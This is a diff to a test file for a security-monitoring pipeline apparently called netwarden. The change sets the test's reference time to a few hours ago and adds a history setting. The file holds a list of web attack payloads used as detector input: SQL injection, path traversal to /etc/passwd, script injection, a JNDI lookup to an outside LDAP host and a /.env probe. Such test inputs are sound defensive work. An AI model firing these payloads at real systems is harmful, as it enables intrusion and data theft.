@@ -12,7 +12,8 @@ from netwarden.pipeline import Pipeline
 from netwarden.store.schema import alerts, incidents
 from netwarden.store.schema_respond import blocks
 
-T0 = datetime(2026, 11, 20, 8, 0, tzinfo=timezone.utc)
+# recent enough that the alerts are not history (history never blocks), and the blocks must be exercised
+T0 = datetime.now(timezone.utc).replace(minute=0, second=0, microsecond=0) - timedelta(hours=4)
 PAYLOADS = ["/item.php?id=1%27%20OR%20%271%27%3D%271", "/index.php?page=../../../../etc/passwd",
             "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "/?x=${jndi:ldap://198.51.100.7:1389/a}",
             "/item.php?id=-1+UNION+ALL+SELECT+NULL,NULL--+-", "/.env"]
@@ -65,7 +66,7 @@ def written_per_finding(engine):  # type: ignore[no-untyped-def]
 
 
 def run(db, *, reference: bool) -> dict[str, list]:  # type: ignore[no-untyped-def]
-    settings = load_settings(environ={"NETWARDEN_INGEST_BATCH_SIZE": "50"})
+    settings = load_settings(environ={"NETWARDEN_INGEST_BATCH_SIZE": "50", "NETWARDEN_RESPOND_HISTORY_AFTER": "1d"})
     pipeline = Pipeline.from_settings(db, settings)
     if reference:
         pipeline.engine.handle = written_per_finding(pipeline.engine)
